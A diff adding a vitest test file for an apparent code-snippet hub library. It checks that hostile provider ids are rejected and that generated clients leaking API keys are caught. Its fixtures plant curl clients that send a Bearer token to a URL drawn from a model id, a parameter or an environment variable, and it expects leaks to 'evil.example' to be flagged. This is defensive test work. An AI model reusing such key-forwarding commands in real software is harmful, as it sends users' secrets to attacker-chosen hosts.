@@ -1,0 +1,127 @@
+// Clients that send a key to the wrong host are found. `npm run check hosts` runs all clients.
+import { beforeAll, describe, expect, test } from "vitest";
+import {
+  type Call,
+  createHub,
+  defineClient,
+  type HttpRequest,
+  type Hub,
+  inferenceCall,
+  loadPlugins,
+  type Plugin,
+  isAbsence,
+} from "hubsmith";
+import { type Code, env, type Hole, sh, text, type Value } from "hubsmith/code";
+import type { Env } from "hubsmith/language";
+import { entries } from "hubsmith/plugins";
+import { prepareCases } from "./cases.ts";
+import { ENDPOINTS, HUB_IDS, IDS } from "./hostile.ts";
+import { prove } from "./judge.ts";
+import { HOSTS, ROUTER_HOST, type Target } from "./routes.ts";
+import { checkTargets } from "./targets.ts";
+
+let plugins: readonly Plugin[];
+beforeAll(async () => {
+  const loaded = await loadPlugins(entries.filter(({ kind }) => kind !== "library"));
+  plugins = loaded.plugins as readonly Plugin[];
+});
+
+const kindOf = (one: Plugin): string => one["~hub"].kind;
+const PROVIDERS = ["auto", "fal-ai", "hf-inference", "together"];
+
+/** A hub of few providers, with the clients of a test. */
+function hubOf(...clients: readonly Plugin[]): Hub {
+  const few = plugins.filter(
+    (one) => kindOf(one) === "task" || (kindOf(one) === "provider" && PROVIDERS.includes(one.id)),
+  );
+  return createHub([...few, ...clients], { logger: { error: () => undefined } });
+}
+
+test("every provider with a base URL has its host in the list", () => {
+  const direct = plugins.filter((one) => "baseUrl" in one && one.baseUrl !== undefined);
+  expect(direct.map(({ id }) => id).sort()).toEqual(Object.keys(HOSTS).sort());
+});
+
+test("no record can have a hostile id of a provider as its id on the Hub", () => {
+  const hub = hubOf();
+  for (const id of IDS.filter((one) => !HUB_IDS.includes(one))) {
+    const call = inferenceCall(hub, { model: { id, tags: [] }, provider: "auto" });
+    expect(call, id).toMatchObject({ code: "bad-id" });
+  }
+});
+
+test("a hostile string is neither a provider nor a task", () => {
+  const hub = hubOf();
+  for (const hostile of [...IDS, ...ENDPOINTS.map(([address]) => address)]) {
+    const model = { id: "acme/lighthouse", tags: [], pipeline_tag: "text-to-image" };
+    const other = { ...model, pipeline_tag: hostile };
+    expect(inferenceCall(hub, { model, provider: hostile })).toHaveProperty("reason");
+    expect(inferenceCall(hub, { model: other, provider: "together" })).toHaveProperty("reason");
+  }
+});
+
+function clientWith(name: string, print: (call: Call) => Code<"sh">): Plugin {
+  return defineClient({
+    id: `sh/${name}`,
+    label: name,
+    language: sh.language,
+    order: 9,
+    refuses: ({ request }) => (isAbsence(request) ? request : undefined),
+    templates: [],
+    fallback: print,
+  });
+}
+
+/** A client that sends its key to a custom URL, with curl. */
+const sendsTo = (name: string, url: (call: Call) => Hole<"sh">): Plugin =>
+  clientWith(name, (call) => {
+    const key = text("Authorization: Bearer ", call.token as Env | string);
+    return sh`curl -gsS ${url(call)} -H ${key} -d '{}'`;
+  });
+
+const ROUTER = `https://${ROUTER_HOST}`;
+const PLANTED = [
+  sendsTo("right", ({ request }) => (request as HttpRequest).url),
+  sendsTo("id", ({ mapping }) => `${ROUTER}${mapping?.providerId ?? ""}`),
+  sendsTo("parameter", ({ parameters }) => String((parameters["base_url"] as Value) ?? ROUTER)),
+  sendsTo("variable", () => env("OPENAI_BASE_URL")),
+];
+
+describe("a client", () => {
+  let faults: ReadonlyMap<string, string>;
+  beforeAll(async () => {
+    const tried =
+      /^(id "@evil\.example"|parameter "base_url"|variable "OPENAI_BASE_URL").*\| hub \|/;
+    const prepared = prepareCases(hubOf(...PLANTED), false, [["together", "conversational"]]);
+    expect(prepared.faults).toEqual([]);
+    const cases = prepared.cases.filter(({ client, program: { name } }) => {
+      return tried.test(name) && (client === "sh/right" || name.startsWith(client.slice(3)));
+    });
+    expect(cases).toHaveLength(6);
+    const found = await prove(cases, { jobs: 2, seconds: 60 });
+    faults = new Map(
+      found.faults.map(([name, lines]) => [name.split(" | ").at(-1)!, lines.join()]),
+    );
+  });
+
+  test("that uses the URL of its call has no fault", () => {
+    expect(faults.get("sh/right")).toBeUndefined();
+  });
+
+  test.each(["id", "parameter", "variable"])("that reads its URL from the %s is found", (by) => {
+    expect(faults.get(`sh/${by}`)).toContain("It sent the secret of the hub to evil.example.");
+  });
+});
+
+test("a client that sends every key to one host is found", () => {
+  const client = clientWith(
+    "one-host",
+    ({ token }) => sh`curl ${`${ROUTER}/v1`} -H ${text("X-Key: ", token as Env | string)}`,
+  );
+  const { faults } = checkTargets(hubOf(client));
+  const about = (provider: string, target: Target): string =>
+    faults.filter((one) => one.startsWith(`${provider} |`) && one.includes(`| ${target} |`)).join();
+  expect(about("together", "direct")).toContain("the program names router.huggingface.co");
+  expect(about("hf-inference", "endpoint")).toContain("the program names router.huggingface.co");
+  expect(about("together", "routed")).toBe("");
+});
